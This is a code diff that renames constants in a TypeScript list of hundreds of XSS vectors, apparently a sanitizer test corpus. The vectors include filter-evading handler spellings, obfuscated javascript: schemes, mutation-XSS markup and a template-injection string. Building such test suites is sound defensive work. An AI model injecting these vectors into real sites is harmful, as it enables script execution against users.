@@ -2,7 +2,7 @@
  * Markup that runs `RUN` in a browser that shows it as it is, some hundreds of ways: from the lists
  * of OWASP and PortSwigger, put together of what can be put together.
  */
-export const RUN = 'window.hacked=1;alert(1)';
+export const PAYLOAD = 'window.hacked=1;alert(1)';
 
 const HANDLERS = [
   ...['onload', 'onerror', 'onclick', 'onfocus', 'onmouseover', 'ontoggle', 'onbegin', 'onstart'],
@@ -28,25 +28,25 @@ const ELEMENTS = [
 ];
 /** How a handler can be written so that a simple filter does not see it. */
 const SPELLINGS: readonly ((handler: string) => string)[] = [
-  (handler) => `${handler}="${RUN}"`,
-  (handler) => `${handler.toUpperCase()}='${RUN}'`,
-  (handler) => `x="/"/${handler}="${RUN}"`,
+  (handler) => `${handler}="${PAYLOAD}"`,
+  (handler) => `${handler.toUpperCase()}='${PAYLOAD}'`,
+  (handler) => `x="/"/${handler}="${PAYLOAD}"`,
 ];
 
 const SCHEMES = [
-  `javascript:${RUN}`,
-  `JaVaScRiPt:${RUN}`,
-  ` javascript:${RUN}`,
-  `java&#9;script:${RUN}`,
-  `java&NewLine;script:${RUN}`,
-  `&#106;avascript&colon;${RUN}`,
-  `&#x6A&#x61vascript:${RUN}`,
-  `\u0001javascript:${RUN}`,
-  `javascript://%0a${RUN}`,
-  `data:text/html,<script>${RUN}</script>`,
+  `javascript:${PAYLOAD}`,
+  `JaVaScRiPt:${PAYLOAD}`,
+  ` javascript:${PAYLOAD}`,
+  `java&#9;script:${PAYLOAD}`,
+  `java&NewLine;script:${PAYLOAD}`,
+  `&#106;avascript&colon;${PAYLOAD}`,
+  `&#x6A&#x61vascript:${PAYLOAD}`,
+  `\u0001javascript:${PAYLOAD}`,
+  `javascript://%0a${PAYLOAD}`,
+  `data:text/html,<script>${PAYLOAD}</script>`,
   'data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==',
-  `vbscript:${RUN}`,
-  `view-source:javascript:${RUN}`,
+  `vbscript:${PAYLOAD}`,
+  `view-source:javascript:${PAYLOAD}`,
   '//evil.example',
 ];
 const CARRIERS = [
@@ -61,41 +61,41 @@ const CARRIERS = [
   ],
 ];
 
-const WHOLE = [
-  `<script>${RUN}</script>`,
-  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
-  `<script src=data:,${RUN}></script>`,
-  `<svg><script>${RUN}</script></svg>`,
-  `<svg><script href="data:,${RUN}"/></svg>`,
-  `<math><mtext><table><mglyph><style><img src=x: onerror="${RUN}">`,
-  `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${RUN}&gt;">`,
-  `<svg></p><style><a id="</style><img src=x: onerror=${RUN}>">`,
-  `<noscript><p title="</noscript><img src=x: onerror=${RUN}>">`,
-  `<template><img src=x: onerror="${RUN}"></template>`,
-  `<textarea><img title="</textarea><img src=x: onerror=${RUN}>">`,
-  `<title><img title="</title><img src=x: onerror=${RUN}>">`,
-  `<xmp><img title="</xmp><img src=x: onerror=${RUN}>">`,
+const COMPLETE_MARKUP = [
+  `<script>${PAYLOAD}</script>`,
+  `<scr<script>ipt>${PAYLOAD}</scr</script>ipt>`,
+  `<script src=data:,${PAYLOAD}></script>`,
+  `<svg><script>${PAYLOAD}</script></svg>`,
+  `<svg><script href="data:,${PAYLOAD}"/></svg>`,
+  `<math><mtext><table><mglyph><style><img src=x: onerror="${PAYLOAD}">`,
+  `<math><mtext></p><style><!--</style><img title="--&gt;&lt;img src=x: onerror=${PAYLOAD}&gt;">`,
+  `<svg></p><style><a id="</style><img src=x: onerror=${PAYLOAD}>">`,
+  `<noscript><p title="</noscript><img src=x: onerror=${PAYLOAD}>">`,
+  `<template><img src=x: onerror="${PAYLOAD}"></template>`,
+  `<textarea><img title="</textarea><img src=x: onerror=${PAYLOAD}>">`,
+  `<title><img title="</title><img src=x: onerror=${PAYLOAD}>">`,
+  `<xmp><img title="</xmp><img src=x: onerror=${PAYLOAD}>">`,
   `<iframe srcdoc="<script>parent.hacked=1</script>"></iframe>`,
   `<iframe srcdoc="&lt;img src=x: onerror=parent.hacked=1&gt;"></iframe>`,
-  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`,
-  `<style>@import 'javascript:${RUN}';*{background:url(javascript:${RUN})}</style>`,
-  `<p style="background:url(javascript:${RUN});position:fixed;inset:0">x</p>`,
-  `<!--><img src=x: onerror="${RUN}">-->`,
-  `<![CDATA[<img src=x: onerror="${RUN}">]]>`,
-  `<?xml-stylesheet href="javascript:${RUN}"?>`,
+  `<meta http-equiv=refresh content="0;url=javascript:${PAYLOAD}">`,
+  `<style>@import 'javascript:${PAYLOAD}';*{background:url(javascript:${PAYLOAD})}</style>`,
+  `<p style="background:url(javascript:${PAYLOAD});position:fixed;inset:0">x</p>`,
+  `<!--><img src=x: onerror="${PAYLOAD}">-->`,
+  `<![CDATA[<img src=x: onerror="${PAYLOAD}">]]>`,
+  `<?xml-stylesheet href="javascript:${PAYLOAD}"?>`,
   `<form><input name=attributes><input name=parentNode></form><img name=body>`,
-  `<svg><animate attributeName=href values="javascript:${RUN}" /><a id=x><text>x</text></a></svg>`,
-  `<svg><set attributeName=onmouseover to="${RUN}"/></svg>`,
-  `<svg><foreignObject><iframe src="javascript:${RUN}"></iframe></foreignObject></svg>`,
-  `<svg><use href="data:image/svg+xml,<svg id=x onload='${RUN}'/>#x"/></svg>`,
-  `"><img src=x: onerror="${RUN}">`,
-  `'--></style></script><script>${RUN}</script>`,
-  `{{constructor.constructor('${RUN}')()}}`,
+  `<svg><animate attributeName=href values="javascript:${PAYLOAD}" /><a id=x><text>x</text></a></svg>`,
+  `<svg><set attributeName=onmouseover to="${PAYLOAD}"/></svg>`,
+  `<svg><foreignObject><iframe src="javascript:${PAYLOAD}"></iframe></foreignObject></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x onload='${PAYLOAD}'/>#x"/></svg>`,
+  `"><img src=x: onerror="${PAYLOAD}">`,
+  `'--></style></script><script>${PAYLOAD}</script>`,
+  `{{constructor.constructor('${PAYLOAD}')()}}`,
   '<a id=main name=main href=# class=sr-only>x</a>',
 ];
 
 export const HOSTILE_MARKUP: readonly string[] = [
-  ...WHOLE,
+  ...COMPLETE_MARKUP,
   ...SCHEMES.flatMap((scheme) => CARRIERS.map((carrier) => carrier.replace('%', () => scheme))),
   ...HANDLERS.flatMap((handler) =>
     ELEMENTS.map((element, index) =>
